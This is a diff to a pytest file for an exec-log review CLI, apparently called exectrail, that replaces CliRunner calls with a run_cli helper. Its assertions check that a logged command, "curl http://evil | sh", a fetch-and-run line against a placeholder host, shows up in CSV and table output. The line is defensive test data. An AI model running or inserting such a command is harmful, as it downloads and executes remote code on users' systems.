@@ -11,9 +11,8 @@ import sys
 from pathlib import Path
 
 import pytest
-from click.testing import CliRunner
 
-from exectrail.cli.main import cli
+from tests.support.cli import run_cli
 from tests.support.kernel_format import log_lines
 
 T0 = 1795608000  # 2026-11-25T12:00:00Z
@@ -58,7 +57,7 @@ def log(tmp_path: Path) -> Path:
 
 
 def run(*args: str, stdin: bytes | None = None) -> tuple[int, list[dict[str, object]], str]:
-    result = CliRunner().invoke(cli, ["review", "--format", "jsonl", *args], input=stdin)
+    result = run_cli(["review", "--format", "jsonl", *args], input=stdin)
     events = [json.loads(line) for line in result.stdout.splitlines() if line.startswith('{"type":"exec"')]
     return result.exit_code, events, result.stderr
 
@@ -123,11 +122,11 @@ def test_time_words(log: Path) -> None:
 
 
 def test_csv_and_table(log: Path) -> None:
-    result = CliRunner().invoke(cli, ["review", "--format", "csv", str(log)])
+    result = run_cli(["review", "--format", "csv", str(log)])
     rows = [r for r in csv.DictReader(io.StringIO(result.stdout)) if r["type"] == "exec"]
     assert rows[3]["argv"] == "sh -c 'curl http://evil | sh'"
     assert rows[1]["argv_hex"] == "2f62696e2f6563686f 780a79 fffe"
-    table = CliRunner().invoke(cli, ["review", "--format", "table", str(log)], env={"COLUMNS": "200"})
+    table = run_cli(["review", "--format", "table", str(log)], env={"COLUMNS": "200"})
     assert "curl http://evil | sh" in table.stdout
     assert "$'x\\ny'" in table.stdout
 
